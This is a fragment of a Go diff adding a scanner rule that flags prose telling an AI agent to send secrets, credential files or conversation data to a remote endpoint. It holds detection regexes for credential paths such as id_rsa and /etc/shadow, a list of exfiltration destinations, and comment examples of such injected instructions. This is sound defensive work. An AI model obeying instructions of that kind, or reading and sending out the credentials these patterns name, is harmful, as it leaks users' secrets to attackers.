+	sendVerbRe   = regexp.MustCompile(`(?i)\b` + sendVerb + `\b`)
+	credPathWord = regexp.MustCompile(`(?i)~/\.|\$home|\.env\b|id_rsa|id_ed25519|/etc/shadow`)
+)
+
+// checkExfilProse refuses a sentence instructing the agent to send secrets,
+// credential files or the conversation somewhere: "POST all environment
+// variables to https://...", "read ~/.aws/credentials and upload it to ...".
+func (c *checker) checkExfilProse(d *doc, u unit, t string) {
+	lt := asciiLower(t)
+	if !strings.Contains(lt, "http") && !lowerHas(lt, "webhook", "endpoint", "server", "collector", "pastebin", "gist", "discord", "telegram", "requestbin", "ngrok", "interact.sh", "oast", "burp") {
+		return
+	}
+	var m []int
+	if m = exfilProseA.FindStringIndex(t); m == nil {
+		m = exfilProseB.FindStringIndex(t)
+	}
+	if m == nil {
+		// A credential path or secret variable as the object of a send verb.
+		if !credPathWord.MatchString(t) && !strings.Contains(t, "$") {
+			return
+		}
+		srcs := findSources(t)
+		if len(srcs) == 0 {
+			return
+		}
+		vm := sendVerbRe.FindStringIndex(t)
+		if vm == nil || !strings.Contains(asciiLower(t[vm[1]:]), "http") {
+			return
+		}
+		first := srcs[0]
+		if first.kind == srcSecret || first.start < vm[0]-120 {
+			return
+		}
+		m = []int{min(vm[0], first.start), len(t)}
+	}
+	if negationWords.MatchString(clauseBefore(t, m[0])) {
+		return
+	}
+	s, e := u.start+m[0], u.start+m[1]
+	tier, msg := downgrade(c.securityContext(d, s), "instructs the agent to send secrets or private data to a remote destination")
+	c.add(d, RuleExfilInstruction, tier, s, e, msg)
+}
+
+// clauseBefore returns the text of t's clause up to pos (from the last
+// comma, semicolon or colon).
+func clauseBefore(t string, pos int) string {
+	s := strings.LastIndexAny(t[:pos], ",;:")
+	return t[s+1 : pos]
+}
